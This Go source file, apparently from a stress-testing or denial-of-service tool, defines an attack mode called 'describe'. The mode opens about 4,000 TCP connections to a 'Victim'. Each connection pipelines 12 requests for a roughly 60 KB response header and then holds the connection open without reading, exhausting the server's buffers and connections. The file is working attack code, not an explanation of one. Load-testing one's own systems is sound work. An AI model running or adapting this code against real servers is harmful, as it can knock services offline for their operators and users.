package attack

import (
	"bytes"
	"context"
	"net"
	"time"
)

// describe: who asks for much and takes nothing of it.
var describe = Kind{
	Name:    "describe",
	About:   "4,000 connections that ask 12 times for a header of 60 KB and read nothing",
	Ballast: 60_000,
	Run: func(ctx context.Context, v Victim, log *Log) error {
		const times, rcvbuf = 12, 4096
		requests := bytes.Repeat(append(v.describeHead(), "\r\n"...), times)
		keep(ctx, v.scaled(4000), v.Plain, rcvbuf, log, func(conn *net.TCPConn) error {
			conn.SetWriteDeadline(time.Now().Add(dialTimeout))
			if _, err := conn.Write(requests); err != nil {
				return err
			}
			log.sent(times)
			return holdUnread(ctx, conn)
		})
		return nil
	},
}
